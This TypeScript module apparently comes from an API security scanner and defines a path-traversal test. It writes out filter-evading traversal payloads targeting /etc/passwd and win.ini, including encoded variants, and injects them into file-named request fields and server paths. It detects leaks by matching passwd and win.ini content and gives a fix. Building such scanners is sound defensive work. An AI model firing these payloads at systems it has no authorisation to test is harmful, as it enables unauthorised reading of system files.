import type { Attack, Case, Untested } from '../../attack.ts'
import type { Draft } from '../../engine/exchange.ts'
import type { Plan } from '../../plan/plan.ts'
import type { Probe } from '../../probe.ts'
import { fail, pass } from '../../verdict.ts'
import { basePath } from '../path-spellings.ts'
import { settled } from '../settled.ts'
import {
  type Prepared,
  prepare,
  requireTaken,
  type TextCase,
  type TextPlace,
  textCases,
  withText,
} from './text-places.ts'

const UP = '../'.repeat(10)

/** Files that every system has, in spellings that filters miss. */
const NAMES = [
  `${UP}etc/passwd`,
  '/etc/passwd',
  `${'....//'.repeat(10)}etc/passwd`,
  `${'..\\'.repeat(10)}windows\\win.ini`,
] as const

export const pathTraversal: Attack = {
  id: 'path-traversal',
  number: 113,
  risk: 'API8',
  severity: 'critical',
  cwe: 22,
  title: 'A name that climbs out of its folder reads a file of the system',
  references: ['OWASP API8:2023', 'OWASP WSTG-ATHZ-01', 'ASVS 5.0 5.3.2'],
  maxRequests: NAMES.length * 2 + 1,
  oracle: 'The answer holds a line that only /etc/passwd or win.ini has.',
  fix: 'Look names up in a table, or resolve the path and compare its beginning with the folder before anything is opened.',
  phase: 'normal',
  cases,
  async run(it: Case, probe) {
    const alice = probe.identity(it.owner)
    const answers = []
    const prepared = it.operation === null ? null : await prepare(probe, it as TextCase)
    for (const { how, draft } of it.operation === null ? ofTheServer(probe) : ofThePlace(it as TextCase, prepared)) {
      const answer = await settled(probe, draft, alice)
      if (isSystemFile(answer.text)) return fail(`${how} reads a file of the system`, answer)
      answers.push(answer)
    }
    if (prepared !== null) await requireTaken(probe, it as TextCase, prepared, answers)
    return pass('no file of the system is shown', ...answers)
  },
}

export const isSystemFile = (text: string): boolean =>
  /\broot:[^:\s]{0,100}:0:0:/.test(text) || /\[fonts\]|; for 16-bit app support/i.test(text)

function* cases(plan: Plan): Generator<Case | Untested> {
  const found = textCases(plan, 2, (place) => place.maxLength >= 12 && namesFile(place))
  const [owner] = plan.identities
  if (owner) yield { operation: null, owner: owner.name }
  yield* found
}

const namesFile = ({ name }: TextPlace): boolean =>
  /file|path|dir|folder|document|doc$|attachment|image|img|avatar|cover|photo|template|tpl|view|page|theme|lang|locale|include|download|asset|resource|report|export|log|backup|key$|name$/i.test(
    name.split('/').at(-1) ?? name,
  )

interface Attempt {
  readonly how: string
  readonly draft: Draft
}

function ofThePlace(it: TextCase, prepared: Prepared | null): readonly Attempt[] {
  if (prepared === null) return []
  return NAMES.map((name) => ({
    how: `${name} in ${it.variant} of ${it.operation.id}`,
    draft: withText(it.operation, prepared.draft, prepared.place, name),
  }))
}

/** What serves files beside the API. */
function ofTheServer(probe: Probe): readonly Attempt[] {
  const base = basePath(probe.base)
  const draft = { method: 'GET', path: '/', query: [], headers: [], body: undefined, mediaType: '' }
  return [
    `${base}/${UP}etc/passwd`,
    `${base}/${'%2e%2e/'.repeat(10)}etc/passwd`,
    `${base}/${'..%2f'.repeat(10)}etc%2fpasswd`,
  ].map((rawTarget) => ({ how: rawTarget, draft: { ...draft, rawTarget } }))
}
